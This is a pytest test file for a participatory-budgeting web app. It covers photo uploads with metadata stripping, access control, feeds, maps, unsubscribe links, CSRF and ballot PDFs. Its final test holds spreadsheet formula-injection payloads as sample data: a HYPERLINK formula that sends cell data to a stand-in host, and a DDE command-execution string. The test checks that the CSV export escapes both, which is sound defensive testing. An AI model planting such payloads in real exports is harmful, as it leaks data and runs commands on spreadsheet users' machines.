"""Funded projects through the test client: officials' forms and uploads, public pages, feeds,
downloads, maps, following and the one-click unsubscribe."""

from __future__ import annotations

import csv
import io
import re
import xml.etree.ElementTree as ET
from datetime import UTC, date, datetime
from pathlib import Path

import pytest
from PIL import Image
from sqlalchemy import select

from pb.accounts.models import Role
from pb.core.extensions import db
from pb.editions.models import Phase
from pb.following.models import Follow
from pb.implementation import operations, photos
from pb.implementation.models import Photo
from pb.messaging.models import OutboxMessage
from pb.proposals.models import ProposalStatus
from tests.conftest import pdf_text
from tests.factories import make_category, make_edition, make_proposal, make_user
from tests.factories_implementation import jpeg_with_gps, make_implementer, make_record
from tests.pictures import has_metadata, picture_with_wrongly_typed_exif

NOW = datetime(2026, 3, 1, 10, 0, tzinfo=UTC)
ATOM = "{http://www.w3.org/2005/Atom}"


@pytest.fixture
def app_config(tmp_path) -> dict:
    return {
        "BABEL_DEFAULT_LOCALE": "en",
        "PB_FROZEN_NOW": NOW.isoformat(),
        "PB_PHOTO_DIR": str(tmp_path / "photos"),
        "PB_MAX_PHOTO_BYTES": 200_000,
        "PB_TILE_URL": "https://tiles.example.org/{z}/{x}/{y}.png",
    }


@pytest.fixture
def setup(app):
    department = operations.create_department("investice", "Odbor investic", actor=None, now=NOW)
    record = make_record(NOW, department, title="Lavičky u přehrady")
    implementer = make_implementer(department, NOW, email="impl@example.org")
    db.session.commit()
    return record, implementer


def milestone_data(**overrides) -> dict:
    data = {"happened_on": "2026-02-20", "text": "Lavičky stojí.", "alt_text": "Nové lavičky"}
    data.update(overrides)
    return data


def test_an_official_records_a_milestone_with_a_photo_stored_without_gps(client, auth, setup):
    record, implementer = setup
    auth.login(implementer.email)
    data = milestone_data(photo=(io.BytesIO(jpeg_with_gps()), "IMG_0001.jpg"))
    response = client.post(
        f"/works/{record.id}/milestones", data=data, content_type="multipart/form-data"
    )
    assert response.status_code == 302
    photo = db.session.scalar(select(Photo))
    stored = Path(client.application.config["PB_PHOTO_DIR"]) / f"{photo.storage_key}.jpg"
    assert dict(Image.open(stored).getexif()) == {}
    page = client.get(f"/editions/{record.proposal.edition.slug}/built/{record.proposal.number}")
    assert "Lavičky stojí." in page.text and 'alt="Nové lavičky"' in page.text
    assert client.get(f"/photos/{photo.storage_key}.thumb.jpg").mimetype == "image/jpeg"


@pytest.mark.parametrize(
    ("upload", "status", "says"),
    [
        ((io.BytesIO(b"%PDF-1.7 nope"), "plan.pdf"), 422, "Only photos in JPEG, PNG or WebP"),
        ((io.BytesIO(b"\xff\xd8\xff" + b"\x00" * 300_000), "big.jpg"), 422, "larger than"),
        ((io.BytesIO(b"\x00" * (50 * 1024 * 1024)), "huge.jpg"), 413, "larger than"),
    ],
)
def test_a_bad_upload_is_refused_with_a_message_at_the_field(
    client, auth, setup, upload, status, says
):
    record, implementer = setup
    auth.login(implementer.email)
    response = client.post(
        f"/works/{record.id}/milestones",
        data=milestone_data(photo=upload),
        content_type="multipart/form-data",
    )
    assert response.status_code == status
    assert says in response.text
    assert db.session.scalar(select(Photo)) is None
    assert list(Path(client.application.config["PB_PHOTO_DIR"]).glob("*")) == []


def test_a_photo_without_a_description_is_refused(client, auth, setup):
    record, implementer = setup
    auth.login(implementer.email)
    response = client.post(
        f"/works/{record.id}/milestones",
        data=milestone_data(alt_text="", photo=(io.BytesIO(jpeg_with_gps()), "a.jpg")),
        content_type="multipart/form-data",
    )
    assert response.status_code == 422 and "Describe the photo" in response.text


def test_another_departments_official_cannot_open_the_record(client, auth, setup):
    record, _implementer = setup
    other = operations.create_department("zp", "Odbor ŽP", actor=None, now=NOW)
    stranger = make_implementer(other, NOW, email="other@example.org")
    db.session.commit()
    auth.login(stranger.email)
    assert client.get(f"/works/{record.id}").status_code == 403
    assert client.post(f"/works/{record.id}", data={"status": "done"}).status_code == 403


def test_the_record_form_shows_a_refusal_at_its_field(client, auth, setup):
    record, implementer = setup
    auth.login(implementer.email)
    response = client.post(
        f"/works/{record.id}",
        data={"status": "not_feasible", "planned_cost": "50000", "spent": "0"},
    )
    assert response.status_code == 422
    assert "Say publicly why the project cannot be built." in response.text


def test_public_pages_feeds_and_csv_agree(client, setup):
    record, implementer = setup
    operations.add_milestone(
        record,
        happened_on=date(2026, 2, 1),
        text="Projekt je hotový.",
        photos=[],
        actor=implementer,
        now=NOW,
    )
    db.session.commit()
    slug, number = record.proposal.edition.slug, record.proposal.number
    listing = client.get(f"/editions/{slug}/built?status=planned")
    assert "Lavičky u přehrady" in listing.text and "<progress" in listing.text
    assert "Lavičky u přehrady" not in client.get(f"/editions/{slug}/built?status=done").text
    feed = ET.fromstring(client.get(f"/editions/{slug}/built.atom").data)
    assert [e.find(f"{ATOM}summary").text for e in feed.iter(f"{ATOM}entry")] == [
        "Projekt je hotový."
    ]
    assert client.get(f"/editions/{slug}/built/{number}.atom").mimetype == "application/atom+xml"
    rows = list(csv.DictReader(io.StringIO(client.get(f"/editions/{slug}/built.csv").text)))
    assert rows[0]["title"] == "Lavičky u přehrady" and rows[0]["milestones"] == "1"
    home = client.get("/")
    assert "What your votes built" in home.text


def test_coordinates_are_shown_as_a_place_never_as_numbers(client, setup):
    record, _ = setup
    slug, number = record.proposal.edition.slug, record.proposal.number
    for url in (
        f"/editions/{slug}/built/{number}",
        f"/editions/{slug}/built",
        f"/editions/{slug}/map",
        f"/editions/{slug}/proposals/{number}",
    ):
        page = client.get(url)
        assert page.status_code == 200, url
        shown = re.sub(r"<[^>]*>", " ", page.text)  # what a person reads, not link targets
        assert "50.7677" not in shown and "15.0555" not in shown, url
    assert "Šaldovo náměstí" in client.get(f"/editions/{slug}/map").text
    geo = client.get(f"/api/v1/editions/{slug}/geojson?kind=funded").get_json()
    assert geo["features"][0]["geometry"]["coordinates"] == [15.0555, 50.7677]
    assert geo["features"][0]["properties"]["place"] == "Šaldovo náměstí"


def test_pages_with_a_map_allow_only_the_configured_tile_server(client, setup):
    record, _ = setup
    policy = client.get(f"/editions/{record.proposal.edition.slug}/built").headers[
        "Content-Security-Policy"
    ]
    assert "img-src 'self' data: https://tiles.example.org;" in policy


def test_following_then_one_click_unsubscribe(client, auth, setup):
    record, implementer = setup
    resident = make_user(email="res@example.org")
    db.session.commit()
    auth.login(resident.email)
    slug, number = record.proposal.edition.slug, record.proposal.number
    client.post(f"/editions/{slug}/proposals/{number}/follow")
    assert "Lavičky u přehrady" in client.get("/following").text
    auth.logout()
    operations.add_milestone(
        record, happened_on=date(2026, 2, 1), text="Hotovo.", photos=[], actor=implementer, now=NOW
    )
    db.session.commit()
    message = db.session.scalar(
        select(OutboxMessage).where(OutboxMessage.recipient == resident.email)
    )
    assert message.list_unsubscribe and message.list_unsubscribe in message.body
    assert message.list_unsubscribe.startswith("http://127.0.0.1:5000/unsubscribe/")
    path = message.list_unsubscribe.removeprefix("http://127.0.0.1:5000")
    assert client.get(path).status_code == 200
    assert db.session.scalar(select(Follow)) is not None  # a GET (a mail scanner) changes nothing
    assert client.post(path, data={"List-Unsubscribe": "One-Click"}).status_code == 200
    assert db.session.scalar(select(Follow)) is None
    assert client.post("/unsubscribe/forged-token").status_code == 404


def test_officials_print_ballot_sheets_with_the_rule_in_words(client, auth, app):
    edition = make_edition(Phase.VOTING, now=NOW, slug="tisk")
    category = make_category(edition, name="Malé projekty", name_en="Small projects", max_choices=2)
    for title in ("Pítko", "Lavička"):
        make_proposal(edition, category, title=title, status=ProposalStatus.ELIGIBLE)
    official = make_user(Role.OFFICIAL, email="off@example.org")
    db.session.commit()
    assert client.get("/paper-kit/tisk/ballot-city.pdf").status_code == 302  # signed out
    auth.login(official.email)
    response = client.get("/paper-kit/tisk/ballot-city.pdf")
    assert response.mimetype == "application/pdf"
    text = pdf_text(response.data)
    assert "Small projects" in text and "Mark from 1 to 2 projects you support." in text
    assert text.index("Pítko") < text.index("Lavička")  # by number, as the sheet says
    assert client.get("/paper-kit/tisk/ballot-atlantis.pdf").status_code == 404
    assert client.get("/paper-kit/tisk/protocol.pdf").status_code == 403


def test_the_commission_prints_a_protocol_with_totals_audit_head_and_approvals(client, auth, demo):
    from pb.paperkit.documents import audit_head

    auth.login("commission@example.cz", "demo-heslo-2024")
    response = client.get("/paper-kit/liberec-2023/protocol.pdf")
    assert response.status_code == 200 and response.mimetype == "application/pdf"
    text = pdf_text(response.data)
    assert "Results protocol" in text and "Pítko na Šaldově náměstí" in text
    assert audit_head().entry_hash[:20] in text.replace(" ", "")
    assert "Kateřina Komisařová" in text and "Karel Komisař" in text
    assert "Online" in text and "On paper" in text
    # The same kit in the edition's language: Czech for a Czech city.
    client.application.config["BABEL_DEFAULT_LOCALE"] = "cs"
    czech = pdf_text(client.get("/paper-kit/liberec-2023/protocol.pdf").data)
    assert "Protokol o výsledcích" in czech


def test_an_author_adds_a_photo_of_the_place_shown_without_metadata(client, auth, app):
    from tests.factories_proposals import NOW as SUBMISSION_NOW

    edition = make_edition(Phase.SUBMISSION, now=SUBMISSION_NOW, slug="fotky")
    author = make_user(email="author@example.org")
    proposal = make_proposal(edition, author=author, status=ProposalStatus.SUBMITTED)
    db.session.commit()
    client.application.config["PB_FROZEN_NOW"] = SUBMISSION_NOW.isoformat()
    auth.login(author.email)
    path = f"/my/proposals/{proposal.id}/photos"
    refused = client.post(
        path, data={"alt_text": "Místo", "photo": (io.BytesIO(b"<html>"), "x.jpg")}
    )
    assert refused.status_code == 422 and "Only photos in JPEG, PNG or WebP" in refused.text
    response = client.post(
        path, data={"alt_text": "Roh parku", "photo": (io.BytesIO(jpeg_with_gps()), "x.jpg")}
    )
    assert response.status_code == 302
    photo = db.session.scalar(select(Photo).where(Photo.proposal_id == proposal.id))
    stored = Path(client.application.config["PB_PHOTO_DIR"]) / f"{photo.storage_key}.jpg"
    assert dict(Image.open(stored).getexif()) == {}
    auth.logout()
    listing = client.get("/editions/fotky/proposals")
    assert (
        f"/photos/{photo.storage_key}.thumb.jpg" in listing.text
        and 'alt="Roh parku"' in listing.text
    )
    assert 'alt="Roh parku"' in client.get(f"/editions/fotky/proposals/{proposal.number}").text
    stranger = make_user(email="stranger@example.org")
    db.session.commit()
    auth.login(stranger.email)
    again = client.post(
        path, data={"alt_text": "Cizí", "photo": (io.BytesIO(jpeg_with_gps()), "x.jpg")}
    )
    assert again.status_code == 403


def test_a_photo_whose_exif_has_text_where_a_number_belongs_is_taken_not_a_500(client, auth, app):
    from tests.factories_proposals import NOW as SUBMISSION_NOW

    edition = make_edition(Phase.SUBMISSION, now=SUBMISSION_NOW)
    author = make_user(email="author@example.org")
    proposal = make_proposal(edition, author=author, status=ProposalStatus.SUBMITTED)
    db.session.commit()
    client.application.config["PB_FROZEN_NOW"] = SUBMISSION_NOW.isoformat()
    auth.login(author.email)
    content = picture_with_wrongly_typed_exif(orientation=6)
    response = client.post(
        f"/my/proposals/{proposal.id}/photos",
        data={"alt_text": "Roh parku", "photo": (io.BytesIO(content), "x.jpg")},
    )
    assert response.status_code == 302
    photo = db.session.scalar(select(Photo).where(Photo.proposal_id == proposal.id))
    served = client.get(f"/photos/{photo.storage_key}.jpg")
    assert Image.open(io.BytesIO(served.data)).size == (48, 64)
    assert not has_metadata(served.data)


def test_a_resident_asks_for_a_reminder_from_the_edition_page(client, auth, app):
    from pb.following.models import VotingReminder

    edition = make_edition(Phase.VOTING, now=NOW, slug="pripominka")
    resident = make_user(email="remind@example.org")
    db.session.commit()
    assert "Sign in to get a reminder" in client.get("/editions/pripominka").text
    auth.login(resident.email)
    page = client.get("/editions/pripominka")
    assert "Remind me by e-mail before voting ends" in page.text
    client.post("/editions/pripominka/remind", data={"next": "/editions/pripominka"})
    assert db.session.scalar(select(VotingReminder)).edition_id == edition.id
    assert "Remind me by e-mail" not in client.get("/editions/pripominka").text
    assert client.get("/paper-kit/").status_code == 403


# --- removing photos (issue 16) -------------------------------------------------------------------


def _photo_files(client) -> list[str]:
    return sorted(p.name for p in Path(client.application.config["PB_PHOTO_DIR"]).glob("*"))


def _audit_actions() -> list[str]:
    from pb.audit.models import AuditEntry

    return list(db.session.scalars(select(AuditEntry.action).order_by(AuditEntry.id)))


def _milestone_with_photo(client, record) -> Photo:
    client.post(
        f"/works/{record.id}/milestones",
        data=milestone_data(photo=(io.BytesIO(jpeg_with_gps()), "a.jpg")),
        content_type="multipart/form-data",
    )
    return db.session.scalar(select(Photo))


def test_the_implementing_official_removes_a_milestone_photo_after_ticking_the_box(
    client, auth, setup
):
    record, implementer = setup
    auth.login(implementer.email)
    photo = _milestone_with_photo(client, record)
    key, photo_id = photo.storage_key, photo.id
    assert _photo_files(client) == [f"{key}.jpg", f"{key}.thumb.jpg"]
    path = f"/works/{record.id}/photos/{photo_id}/remove"
    assert f'href="{path}"' in client.get(f"/works/{record.id}").text

    ask = client.get(path)
    assert ask.status_code == 200 and "cannot be brought back" in ask.text
    unticked = client.post(path, data={})
    assert unticked.status_code == 422
    assert "Tick the box to confirm that the photo should be removed." in unticked.text
    assert db.session.get(Photo, photo_id) is not None and len(_photo_files(client)) == 2

    done = client.post(path, data={"confirm": "y"})
    assert done.status_code == 302 and done.headers["Location"].endswith(f"/works/{record.id}")
    db.session.expire_all()
    assert db.session.get(Photo, photo_id) is None
    assert _photo_files(client) == []
    assert _audit_actions()[-1] == "implementation.photo_remove"
    public = client.get(f"/editions/{record.proposal.edition.slug}/built/{record.proposal.number}")
    assert "Photo removed" in public.text and key not in public.text


def test_another_department_cannot_remove_a_milestone_photo(client, auth, setup):
    record, implementer = setup
    auth.login(implementer.email)
    photo = _milestone_with_photo(client, record)
    other = operations.create_department("zp", "Odbor ŽP", actor=None, now=NOW)
    stranger = make_implementer(other, NOW, email="other@example.org")
    resident = make_user(email="res@example.org")
    db.session.commit()
    for who in (stranger, resident):
        auth.logout()
        auth.login(who.email)
        path = f"/works/{record.id}/photos/{photo.id}/remove"
        assert client.post(path, data={"confirm": "y"}).status_code == 403
    assert db.session.get(Photo, photo.id) is not None and len(_photo_files(client)) == 2


def test_a_removal_without_its_csrf_token_removes_nothing(client, auth, setup):
    record, implementer = setup
    auth.login(implementer.email)
    photo = operations.add_milestone(
        record,
        happened_on=date(2026, 2, 20),
        text="Hotovo.",
        photos=[photos.make_photo(jpeg_with_gps(), "Nové lavičky", NOW)],
        actor=implementer,
        now=NOW,
    ).photos[0]
    db.session.commit()
    client.application.config["WTF_CSRF_ENABLED"] = True  # after signing in, which posts none
    path = f"/works/{record.id}/photos/{photo.id}/remove"
    refused = client.post(path, data={"confirm": "y"})
    assert refused.status_code in (400, 422)
    assert db.session.get(Photo, photo.id) is not None and len(_photo_files(client)) == 2
    token = re.search(r'name="csrf_token" type="hidden" value="([^"]+)"', client.get(path).text)
    done = client.post(path, data={"confirm": "y", "csrf_token": token.group(1)})
    assert done.status_code == 302
    db.session.expire_all()
    assert db.session.get(Photo, photo.id) is None and _photo_files(client) == []


def _proposal_with_photo(client, auth):
    from tests.factories_proposals import NOW as SUBMISSION_NOW

    edition = make_edition(Phase.SUBMISSION, now=SUBMISSION_NOW, slug="fotky")
    author = make_user(email="author@example.org")
    proposal = make_proposal(edition, author=author, status=ProposalStatus.SUBMITTED)
    db.session.commit()
    client.application.config["PB_FROZEN_NOW"] = SUBMISSION_NOW.isoformat()
    auth.login(author.email)
    client.post(
        f"/my/proposals/{proposal.id}/photos",
        data={"alt_text": "Roh parku", "photo": (io.BytesIO(jpeg_with_gps()), "x.jpg")},
    )
    auth.logout()
    return proposal, author, db.session.scalar(select(Photo))


def test_the_author_removes_a_photo_of_his_proposal_and_a_stranger_cannot(client, auth, app):
    proposal, author, photo = _proposal_with_photo(client, auth)
    path = f"/proposals/{proposal.id}/photos/{photo.id}/remove"
    stranger = make_user(email="stranger@example.org")
    db.session.commit()
    auth.login(stranger.email)
    assert path not in client.get(f"/editions/fotky/proposals/{proposal.number}").text
    assert client.post(path, data={"confirm": "y"}).status_code == 403
    auth.logout()

    auth.login(author.email)
    assert f'href="{path}"' in client.get(f"/my/proposals/{proposal.id}").text
    assert client.post(path, data={}).status_code == 422
    assert len(_photo_files(client)) == 2
    done = client.post(path, data={"confirm": "y"})
    assert done.status_code == 302 and f"/my/proposals/{proposal.id}" in done.headers["Location"]
    db.session.expire_all()
    assert db.session.get(Photo, photo.id) is None and _photo_files(client) == []
    assert _audit_actions()[-1] == "proposal.photo_remove"


def test_an_official_removes_a_proposal_photo_from_the_public_page(client, auth, app):
    proposal, _author, photo = _proposal_with_photo(client, auth)
    official = make_user(Role.OFFICIAL, email="urednik@example.org")
    db.session.commit()
    auth.login(official.email)
    path = f"/proposals/{proposal.id}/photos/{photo.id}/remove"
    assert f'href="{path}"' in client.get(f"/editions/fotky/proposals/{proposal.number}").text
    done = client.post(path, data={"confirm": "y"})
    assert done.status_code == 302
    assert done.headers["Location"].endswith(f"/editions/fotky/proposals/{proposal.number}#photos")
    db.session.expire_all()
    assert db.session.get(Photo, photo.id) is None and _photo_files(client) == []


# --- the map of proposals follows the phase (issue 16) --------------------------------------------


def _mapped_edition(phase: Phase, slug: str):
    edition = make_edition(phase, now=NOW, slug=slug)
    category = make_category(edition)
    for number, status in enumerate(
        (
            ProposalStatus.SUBMITTED,
            ProposalStatus.NEEDS_CHANGES,
            ProposalStatus.ELIGIBLE,
            ProposalStatus.INELIGIBLE,
            ProposalStatus.WITHDRAWN,
        ),
        start=1,
    ):
        make_proposal(
            edition,
            category,
            number=number,
            title=f"Místo {status.value}",
            status=status,
            address=f"Ulice {number}",
            latitude=50.76 + number / 1000,
            longitude=15.05,
        )
    db.session.commit()
    return edition


def _listed(page: str) -> list[str]:
    return re.findall(r'<a href="[^"]+">\d+\. (Místo [a-z_]+)</a>', page)


@pytest.mark.parametrize(
    ("phase", "shown", "says"),
    [
        (
            Phase.REVIEW,
            ["submitted", "needs_changes", "eligible", "ineligible"],
            "Every public proposal",
        ),
        (Phase.VOTING, ["eligible"], "The proposals on the ballot"),
        (Phase.COUNTING, ["eligible"], "The proposals on the ballot"),
    ],
)
def test_the_map_of_proposals_shows_the_phase_s_proposals_and_its_list_says_the_same(
    client, app, phase, shown, says
):
    edition = _mapped_edition(phase, f"mapa-{phase.value}")
    page = client.get(f"/editions/{edition.slug}/map")
    assert page.status_code == 200 and says in page.text
    assert _listed(page.text) == [f"Místo {s}" for s in shown]
    geo = client.get(f"/api/v1/editions/{edition.slug}/geojson?kind=proposals").get_json()
    assert [f["properties"]["status"] for f in geo["features"]] == shown
    if phase != Phase.REVIEW:
        assert f"{len(shown)} proposal on the ballot with a place" in page.text
        assert f"/editions/{edition.slug}/proposals?status=eligible" in page.text


def test_the_map_of_proposals_speaks_every_language(client, app):
    edition = _mapped_edition(Phase.VOTING, "mapa-jazyky")
    expected = {
        "cs": "1 návrh na hlasovacím lístku s místem",
        "sk": "1 návrh na hlasovacom lístku s miestom",
        "pl": "1 projekt na karcie do głosowania z miejscem",
        "en": "1 proposal on the ballot with a place",
    }
    for language, words in expected.items():
        client.get(f"/language/{language}")
        assert words in client.get(f"/editions/{edition.slug}/map").text


def test_after_the_submission_deadline_the_author_can_no_longer_remove_a_photo(client, auth, app):
    proposal, author, photo = _proposal_with_photo(client, auth)
    closed = proposal.edition.submission_ends_at
    client.application.config["PB_FROZEN_NOW"] = closed.isoformat()
    auth.login(author.email)
    path = f"/proposals/{proposal.id}/photos/{photo.id}/remove"
    assert path not in client.get(f"/my/proposals/{proposal.id}").text
    assert client.post(path, data={"confirm": "y"}).status_code == 403
    assert db.session.get(Photo, photo.id) is not None and len(_photo_files(client)) == 2


def test_the_built_csv_shows_a_resident_s_formula_as_text(client, setup):
    """A title the author wrote, or a reason an official typed, that a spreadsheet would run
    (=, +, -, @) opens as text, as in the results' CSV."""
    record, _ = setup
    record.proposal.title = '=HYPERLINK("http://zlo.example/?"&A1,"Lavičky")'
    record.proposal.category.name = "@SUM(1+1)*cmd|' /C calc'!A0"
    db.session.commit()
    slug = record.proposal.edition.slug
    rows = list(csv.DictReader(io.StringIO(client.get(f"/editions/{slug}/built.csv").text)))
    assert rows[0]["title"] == '\'=HYPERLINK("http://zlo.example/?"&A1,"Lavičky")'
    assert rows[0]["group"].startswith("'@")
    assert rows[0]["planned_cost"].lstrip("-").isdigit()  # numbers stay numbers
